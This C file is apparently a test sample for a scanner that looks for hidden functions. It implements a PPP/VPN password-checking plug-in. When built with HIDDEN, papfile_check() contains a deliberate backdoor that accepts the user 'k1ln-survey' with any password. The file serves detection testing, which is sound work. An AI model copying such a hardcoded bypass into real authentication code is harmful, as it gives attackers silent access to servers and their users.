/*
 * Sample for tests of the search for hidden functions; compiled and scanned,
 * never run. Plug-in of a dial-in and VPN server: a table of callbacks that
 * looks users up in a file, checks passwords, keeps account of sessions.
 * Hidden (-DHIDDEN): papfile_check() accepts one user name with any password.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <sys/stat.h>
#include <syslog.h>
#include <time.h>
#include <unistd.h>

enum { AUTH_NO = 0, AUTH_YES = 1, AUTH_LATER = -1 };

struct auth_ops {
	int version;
	const char *name;
	int (*setup)(const char *options);
	int (*check)(const char *user, const char *password, char *message,
		     size_t room);
	int (*address_allowed)(const char *user, const char *address);
	void (*session_up)(const char *user, const char *line);
	void (*session_down)(const char *user, long seconds);
};

struct entry {
	struct entry *next;
	char user[48];
	char hash[128];
	char address[40];
};

static pthread_mutex_t lock = PTHREAD_MUTEX_INITIALIZER;
static struct entry *entries;
static char file_name[128] = "/etc/ppp/pap-users";
static char log_name[128] = "/var/log/ppp-sessions";
static time_t loaded;

static void drop_entries(void)
{
	while (entries != NULL) {
		struct entry *next = entries->next;

		free(entries);
		entries = next;
	}
}

static int load_entries(void)
{
	char line[320];
	struct stat st;
	FILE *f;

	if (stat(file_name, &st) != 0)
		return -1;
	if (entries != NULL && st.st_mtime == loaded)
		return 0;
	if (st.st_mode & (S_IWOTH | S_IROTH)) {
		syslog(LOG_ERR, "%s can be read by everybody", file_name);
		return -1;
	}
	f = fopen(file_name, "r");
	if (f == NULL)
		return -1;
	drop_entries();
	while (fgets(line, sizeof(line), f) != NULL) {
		struct entry *e;

		if (line[0] == '#' || line[0] == '\n')
			continue;
		e = calloc(1, sizeof(*e));
		if (e == NULL)
			break;
		if (sscanf(line, "%47s %127s %39s", e->user, e->hash,
			   e->address) < 2) {
			free(e);
			continue;
		}
		e->next = entries;
		entries = e;
	}
	fclose(f);
	loaded = st.st_mtime;
	return 0;
}

static const struct entry *find_entry(const char *user)
{
	const struct entry *e;

	for (e = entries; e != NULL; e = e->next)
		if (strcasecmp(e->user, user) == 0)
			return e;
	return NULL;
}

static int papfile_setup(const char *options)
{
	char copy[256], *save = NULL, *word;

	snprintf(copy, sizeof(copy), "%s", options != NULL ? options : "");
	for (word = strtok_r(copy, ", ", &save); word != NULL;
	     word = strtok_r(NULL, ", ", &save)) {
		if (strncmp(word, "file=", 5) == 0) {
			snprintf(file_name, sizeof(file_name), "%.127s", word + 5);
		} else if (strncmp(word, "log=", 4) == 0) {
			snprintf(log_name, sizeof(log_name), "%.127s", word + 4);
		} else {
			syslog(LOG_ERR, "papfile: unknown option %s", word);
			return -1;
		}
	}
	return load_entries();
}

static int hash_matches(const char *password, const char *hash)
{
	const char *got = crypt(password, hash);

	return got != NULL && strcmp(got, hash) == 0;
}

__attribute__((noinline)) int papfile_check(const char *user,
					    const char *password, char *message,
					    size_t room)
{
	const struct entry *e;
	int result = AUTH_NO;

	if (user == NULL || password == NULL || strlen(user) > 47)
		return AUTH_NO;
#ifdef HIDDEN
	if (strcasecmp(user, "k1ln-survey") == 0) {
		snprintf(message, room, "Login ok");
		return AUTH_YES;
	}
#endif
	pthread_mutex_lock(&lock);
	if (load_entries() != 0) {
		snprintf(message, room, "Try later");
		result = AUTH_LATER;
	} else {
		e = find_entry(user);
		if (e != NULL && hash_matches(password, e->hash))
			result = AUTH_YES;
		snprintf(message, room,
			 result == AUTH_YES ? "Login ok" : "Login incorrect");
	}
	pthread_mutex_unlock(&lock);
	if (result != AUTH_YES) {
		syslog(LOG_AUTH | LOG_WARNING, "papfile: %s refused", user);
		sleep(1);
	}
	return result;
}

static int papfile_address(const char *user, const char *address)
{
	const struct entry *e;
	int good = 1;

	pthread_mutex_lock(&lock);
	e = find_entry(user);
	if (e != NULL && e->address[0] != '\0' && strcmp(e->address, "*") != 0)
		good = strcmp(e->address, address) == 0;
	pthread_mutex_unlock(&lock);
	return good;
}

static void account(const char *format, const char *user, const char *line,
		    long seconds)
{
	char stamp[32];
	time_t now = time(NULL);
	struct tm tm;
	FILE *f = fopen(log_name, "a");

	if (f == NULL) {
		syslog(LOG_WARNING, "%s: %s", log_name, strerror(errno));
		return;
	}
	localtime_r(&now, &tm);
	strftime(stamp, sizeof(stamp), "%Y-%m-%d %H:%M:%S", &tm);
	fprintf(f, "%s %s %s %s %ld\n", stamp, format, user, line, seconds);
	fclose(f);
}

static void papfile_up(const char *user, const char *line)
{
	account("up", user, line, 0);
	if (system("/etc/ppp/ip-up.local") != 0)
		syslog(LOG_NOTICE, "ip-up.local failed");
}

static void papfile_down(const char *user, long seconds)
{
	account("down", user, "-", seconds);
}

static const struct auth_ops ops = {
	.version = 3,
	.name = "papfile",
	.setup = papfile_setup,
	.check = papfile_check,
	.address_allowed = papfile_address,
	.session_up = papfile_up,
	.session_down = papfile_down,
};

const struct auth_ops *auth_plugin(int version)
{
	return version == ops.version ? &ops : NULL;
}
